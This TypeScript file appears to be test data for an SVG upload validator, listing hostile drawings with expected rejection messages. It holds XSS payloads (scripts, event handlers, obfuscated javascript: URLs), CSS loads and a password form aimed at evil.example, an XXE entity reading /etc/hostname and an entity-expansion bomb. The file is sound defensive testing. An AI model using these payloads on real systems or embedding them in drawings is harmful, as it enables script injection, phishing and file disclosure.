/** Drawings that would run, fetch, lead away, hide or hang; what is said of each. */
export interface HostileDrawing {
  readonly what: string;
  readonly drawing: string | Uint8Array;
  /** Part of the message or its remedy. */
  readonly says: string;
}

const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const HTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
const root = (attributes: string, inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" ${attributes}>${inside}</svg>`;
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Inside an ordinary drawing. */
const inside: readonly (readonly [what: string, inside: string, says: string])[] = [
  ['a script', '<script>alert(1)</script>', 'contains <script>'],
  ['a script of another file', '<script href="/media/e.js"/>', 'contains <script>'],
  ['a script in CDATA', '<script><![CDATA[alert(1)]]></script>', 'contains <script>'],
  [
    'a script with a prefix',
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    'contains <s:script>',
  ],
  [
    'a script with a dotted prefix',
    '<a.b:script xmlns:a.b="http://www.w3.org/2000/svg">alert(1)</a.b:script>',
    'contains <a.b:script>',
  ],
  [
    'a script with a prefix of letters beyond ASCII',
    '<ü:script xmlns:ü="http://www.w3.org/2000/svg"/>',
    'contains <ü:script>',
  ],
  ['a script of HTML', `<h:script ${HTML}>alert(1)</h:script>`, 'which is not SVG'],
  [
    'a script of HTML without a prefix',
    '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    'which is not SVG',
  ],
  [
    'a script among notes of a program',
    '<metadata><script>alert(1)</script></metadata>',
    'contains <script>',
  ],
  [
    'a script in a note of Inkscape',
    '<i:x xmlns:i="http://www.inkscape.org/namespaces/inkscape"><script/></i:x>',
    'contains <script>',
  ],
  [
    'a processing instruction that hides a script',
    '<?x y="?><script/><?x "?>',
    'processing instruction (<?x)',
  ],
  [
    'a style sheet of another site',
    '<?xml-stylesheet href="https://evil.example/x.css"?>',
    'processing instruction',
  ],
  ['an event handler', '<path onclick="alert(1)"/>', 'event handler onclick'],
  ['an event handler in capitals', '<path OnLoad="alert(1)"/>', 'event handler OnLoad'],
  [
    'an event handler of a note',
    '<i:x xmlns:i="http://ns.adobe.com/x/" onload="alert(1)"/>',
    'event handler onload',
  ],
  [
    'an animation that begins a program',
    '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
    'contains <animate>',
  ],
  [
    'an address that is animated',
    '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    'contains <animate>',
  ],
  ['an address that is set', '<set attributeName="href" to="javascript:alert(1)"/>', 'contains <set>'],
  ['an animated move', '<animateMotion path="M0 0"/>', 'does not move'],
  [
    'a handler of SVG Tiny',
    '<handler type="application/ecmascript">alert(1)</handler>',
    'contains <handler>',
  ],
  ['a listener', '<listener event="click" handler="#x"/>', 'contains <listener>'],
  [
    'HTML inside',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
    'contains <foreignObject>',
  ],
  ['a frame', `<h:iframe ${HTML} src="https://evil.example/"/>`, 'which is not SVG'],
  [
    'a form that asks for a password',
    `<h:form ${HTML} action="https://evil.example/"><h:input type="password"/></h:form>`,
    'which is not SVG',
  ],
  [
    'a refresh',
    `<h:meta ${HTML} http-equiv="refresh" content="0;url=https://evil.example/"/>`,
    'which is not SVG',
  ],
  ['a base', `<h:base ${HTML} href="https://evil.example/"/>`, 'which is not SVG'],
  ['another base', '<g xml:base="https://evil.example/"/>', 'xml:base'],
  [
    'MathML',
    '<m:maction xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>',
    'which is not SVG',
  ],
  ['a link', '<a href="https://evil.example/"><text>Log in</text></a>', 'contains <a>'],
  ['a link that runs', `<a ${XLINK} xlink:href="javascript:alert(1)"/>`, 'contains <a>'],
  [
    'a part of another drawing',
    '<use href="https://evil.example/x.svg#a"/>',
    'leads to https://evil.example',
  ],
  ['a part of a drawing of this site', '<use href="/media/other.svg#a"/>', 'leads to /media/other.svg#a'],
  [
    'a part of a drawing in its address',
    '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    'leads to data:image/svg+xml',
  ],
  [
    'an address with an entity',
    `<use ${XLINK} xlink:href="&#106;avascript:alert(1)"/>`,
    'leads to javascript:',
  ],
  ['an address with a tab', `<use ${XLINK} xlink:href="java&#9;script:alert(1)"/>`, 'leads to java'],
  ['an address behind blanks', '<use href="  javascript:alert(1)"/>', 'leads to javascript:'],
  ['an address in capitals', '<use href="JaVaScRiPt:alert(1)"/>', 'leads to JaVa'],
  [
    'an address under another prefix',
    '<use q:href="https://evil.example/" xmlns:q="http://www.w3.org/1999/xlink"/>',
    'leads to https://evil',
  ],
  ['a gradient of another file', '<linearGradient href="x.svg#g"/>', 'leads to x.svg#g'],
  ['a text path elsewhere', '<textPath href="//evil.example/#p"/>', 'leads to //evil'],
  ['a picture of another site', '<image href="https://evil.example/x.png"/>', 'Embed the picture'],
  ['a picture beside it', '<image href="photo.jpg"/>', 'Embed the picture'],
  ['a drawing in a picture', '<image href="data:image/svg+xml,%3Csvg/%3E"/>', 'leads to data:image/svg+xml'],
  ['a page in a picture', '<feImage href="data:text/html,hello"/>', 'leads to data:text/html'],
  ['a style that imports', '<style>@import "https://evil.example/x.css";</style>', 'has the rule @import'],
  [
    'a style that imports in CDATA',
    '<style><![CDATA[@IMPORT url(//evil.example/)]]></style>',
    'has the rule @IMPORT',
  ],
  [
    'a style that imports by an escape',
    String.raw`<style>@\69mport "https://evil.example/x.css";</style>`,
    'behind a backslash',
  ],
  [
    'a style that imports by entities',
    '<style>&#64;import "https://evil.example/x.css";</style>',
    'has the rule @import',
  ],
  ['a style that loads', '<style>rect{fill:url(https://evil.example/#a)}</style>', 'loads https://evil'],
  [
    'a style that loads by an escape',
    String.raw`<style>rect{fill:u\72l(https://evil.example/#a)}</style>`,
    'behind a backslash',
  ],
  [
    'a style that loads a set',
    '<style>rect{background:image-set("https://evil.example/a.png" 1x)}</style>',
    'image-set(',
  ],
  ['a style behind a comment', '<style>rect{fill:/**/url("//evil.example/")}</style>', 'loads "//evil'],
  [
    'a style that hides behind a comment without end',
    '<style>/* x</style><rect style="fill:url(//evil.example)"/>',
    'loads //evil',
  ],
  [
    'a font of another site',
    '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>',
    'loads https://evil',
  ],
  ['a style attribute that loads', '<rect style="fill:url(//evil.example/#a)"/>', 'loads //evil'],
  [
    'a style that runs in an old browser',
    '<rect style="width:expression(alert(1))"/>',
    'has the function expression(',
  ],
  ['a fill of another file', '<rect fill="url(https://evil.example/x.svg#a)"/>', 'loads https://evil'],
  ['a filter by an escape', String.raw`<rect filter="\75rl(//evil.example/#a)"/>`, 'behind a backslash'],
  ['a cursor', '<rect cursor="url(https://evil.example/c.cur), auto"/>', 'loads https://evil'],
  ['a cursor of its own element', '<cursor href="https://evil.example/c.cur"/>', 'contains <cursor>'],
  ['a font made of drawings', '<font><glyph unicode="a"/></font>', 'Convert the text to outlines'],
  ['sound', '<audio href="https://evil.example/a.mp3"/>', 'contains <audio>'],
  ['an element that nobody knows', '<future/>', 'contains <future>'],
  ['an element in other letters', '<SCRIPT/>', 'contains <SCRIPT>'],
  ['an attribute that nobody knows', '<rect ping="https://evil.example/"/>', 'has the attribute ping'],
  [
    'an attribute of a language that nobody knows',
    '<rect z:x="1" xmlns:z="urn:z"/>',
    'has the attribute z:x',
  ],
  ['an entity that nobody defined', '<text>&nbsp;</text>', 'a name (&…;) that XML does not know'],
  ['a tag that is not closed', '<g>', 'not well-formed'],
  ['two attributes of one name', '<rect x="1" x="2"/>', 'not well-formed'],
  ['an attribute without quotes', '<rect x=1/>', 'not well-formed'],
  ['a control character', '<text>\u0001</text>', 'not well-formed'],
  ['201 levels', `${'<g>'.repeat(201)}${'</g>'.repeat(201)}`, 'nests deeper than 200 levels'],
];

const files: readonly HostileDrawing[] = [
  {
    what: 'a DOCTYPE',
    drawing: `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${root('', '')}`,
    says: 'Delete it, from “<!DOCTYPE”',
  },
  {
    what: 'a DOCTYPE with entities',
    drawing: `<!DOCTYPE svg [<!ENTITY a "b">]>${root('', '')}`,
    says: 'entities of its own',
  },
  {
    what: 'an entity of another file',
    drawing: `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hostname">]>${root('', '<text>&a;</text>')}`,
    says: 'entities of its own',
  },
  {
    what: 'a DOCTYPE that gives an attribute',
    drawing: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${root('', '')}`,
    says: 'entities of its own',
  },
  {
    what: 'entities that grow',
    drawing: `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${root('', '<text>&b;</text>')}`,
    says: 'entities of its own',
  },
  { what: 'a DOCTYPE without end', drawing: `<!DOCTYPE svg [${root('', '')}`, says: 'not well-formed' },
  {
    what: 'a declaration that hides a script',
    drawing: `<?xml version="1.0"?><?x ?>${root('', '<script/>')}`,
    says: 'contains <script>',
  },
  { what: 'UTF-16', drawing: utf16(root('', '<script/>')), says: 'is saved as UTF-16' },
  {
    what: 'UTF-16 without a mark',
    drawing: Buffer.from(root('', '<script/>'), 'utf16le'),
    says: 'not well-formed',
  },
  {
    what: 'another encoding',
    drawing: `<?xml version="1.0" encoding="ISO-2022-JP"?>${root('', '\u001b(J')}`,
    says: 'ISO-2022-JP',
  },
  {
    what: 'UTF-7',
    drawing: `<?xml version="1.0" encoding="UTF-7"?>${root('', '+ADw-script+AD4-')}`,
    says: 'UTF-7',
  },
  {
    what: 'bytes that are not UTF-8',
    drawing: Buffer.concat([Buffer.from(root('', '')), Buffer.from([0xc0, 0xbc])]),
    says: 'not valid UTF-8',
  },
  { what: 'SVGZ', drawing: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]), says: 'SVGZ' },
  {
    what: 'a page',
    drawing: '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    says: 'starts with <html>',
  },
  { what: 'a page of HTML', drawing: '<!doctype html><script>alert(1)</script>', says: 'not well-formed' },
  {
    what: 'two roots',
    drawing: `${root('', '')}<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>`,
    says: 'not well-formed',
  },
  { what: 'nothing but blanks', drawing: '  \n', says: 'not well-formed' },
  { what: 'text', drawing: 'hello', says: 'not well-formed' },
  { what: 'no namespace', drawing: '<svg viewBox="0 0 1 1"/>', says: 'Write <svg xmlns=' },
  {
    what: 'no size',
    drawing: '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
    says: 'does not say how large it is',
  },
  {
    what: 'a size in parts of the page',
    drawing: '<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"/>',
    says: 'does not say how large it is',
  },
  {
    what: 'a size of nothing',
    drawing: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 0"/>',
    says: 'does not say how large it is',
  },
];

export const hostileDrawings: readonly HostileDrawing[] = [
  ...inside.map(([what, text, says]) => ({ what, drawing: root('', text), says })),
  ...files,
];
